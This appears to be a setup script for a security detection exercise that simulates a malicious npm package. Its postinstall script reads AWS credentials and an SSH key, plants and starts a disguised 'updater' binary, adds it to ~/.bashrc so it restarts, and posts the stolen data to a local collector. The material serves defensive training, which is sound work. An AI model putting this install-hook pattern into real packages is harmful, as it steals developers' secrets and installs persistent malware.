# sam installs a package. Its post-install script reads sam's cloud credentials and SSH key, drops an "updater" into
# ~/.cache, makes it executable and starts it, adds a line to ~/.bashrc so that it comes back, and sends the loot to
# its author. From the alert the way leads to the file, the chain of processes and the connection.
directory=/home/sam/app
command=(npm install colour-strings)

prepare() {
    local home=/home/sam package=/run/build/package
    mkdir -p $home/app $home/.aws $home/.ssh $home/.cache $package/scripts /run/registry/colour-strings
    printf '[default]\naws_access_key_id = AKIAMADEUP\naws_secret_access_key = made-up\n' >$home/.aws/credentials
    echo 'made-up private key' >$home/.ssh/id_ed25519
    chmod 600 $home/.aws/credentials $home/.ssh/id_ed25519
    echo '{"name":"app","dependencies":{}}' >$home/app/package.json
    chown -R sam: $home

    # Stands in for npm: fetches a package, unpacks it and runs its post-install script through a shell.
    cat >/usr/local/bin/npm <<'END'
#!/usr/bin/perl
use strict;
use warnings;
my (undef, $name) = @ARGV;
my $place = "node_modules/$name";
mkdir 'node_modules';
mkdir $place;
system('curl', '-s', '-o', "$place.tgz", "http://registry.example:4873/$name/$name-1.0.3.tgz") == 0 or die;
system('tar', '-xzf', "$place.tgz", '-C', $place, '--strip-components=1') == 0 or die;
unlink "$place.tgz";
open(my $manifest, '<', "$place/package.json") or die;
my ($script) = join('', <$manifest>) =~ /"postinstall"\s*:\s*"([^"]+)"/;
chdir $place or die;
system('/bin/sh', '-c', $script) == 0 or die if $script;
print "added 1 package\n";
END
    chmod 755 /usr/local/bin/npm

    cat >$package/package.json <<'END'
{"name": "colour-strings", "version": "1.0.3", "main": "index.js", "scripts": {"postinstall": "sh ./scripts/setup.sh"}}
END
    echo 'module.exports = text => text' >$package/index.js
    cat >$package/scripts/setup.sh <<'END'
#!/bin/sh
exec 2>/dev/null
loot=$(mktemp)
{
    id; uname -a
    cat "$HOME/.aws/credentials"
    cat "$HOME/.ssh/id_ed25519"
} > "$loot"
mkdir -p "$HOME/.cache/fontconfig"
base64 -d assets/colours.dat > "$HOME/.cache/fontconfig/updater"
chmod 755 "$HOME/.cache/fontconfig/updater"
nohup "$HOME/.cache/fontconfig/updater" 8443 > /dev/null &
echo '(~/.cache/fontconfig/updater 8443 &) 2>/dev/null' >> "$HOME/.bashrc"
curl -s -d @"$loot" http://127.0.0.1:8443/collect
rm -f "$loot"
wait
END
    cat >/run/updater.c <<'END'
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *report = "GET /orders HTTP/1.0\r\n\r\n";
    char orders[256];
    struct sockaddr_in master = {.sin_family = AF_INET, .sin_port = htons(argc > 1 ? atoi(argv[1]) : 0)};
    master.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&master, sizeof master) != 0) return 1;
    send(s, report, strlen(report), 0);
    recv(s, orders, sizeof orders, 0);
    usleep(300000);
    return 0;
}
END
    mkdir -p $package/assets
    gcc -O1 -s -o /run/updater /run/updater.c
    base64 /run/updater >$package/assets/colours.dat
    tar -czf /run/registry/colour-strings/colour-strings-1.0.3.tgz -C /run/build package
    other_side files 4873 /run/registry
    other_side sink 8443
}
